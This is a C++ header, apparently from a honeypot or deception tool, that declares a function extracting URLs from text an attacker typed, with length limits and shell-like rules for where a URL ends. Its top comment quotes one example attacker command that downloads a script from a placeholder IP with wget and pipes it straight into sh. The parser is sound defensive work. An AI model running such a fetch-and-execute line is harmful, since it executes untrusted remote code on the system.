// The URLs in what an attacker typed: `cd /tmp; wget http://203.0.113.9/x.sh -O- | sh`.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace decnet::api {

inline constexpr std::size_t kUrlBytesMax = 2048;  // A longer one is cut.
inline constexpr std::size_t kUrlsMax = 200;       // Of one text.

// In their order, as they stand, each once. Schemes: http, https, ftp, ftps, tftp, sftp, scp, ldap.
// A URL ends at a blank, a control character, a quote or one of ;|&<>(){}` — as in a shell; '&'
// ends it only where no '?' came before.
std::vector<std::string> find_urls(std::string_view text);

}  // namespace decnet::api
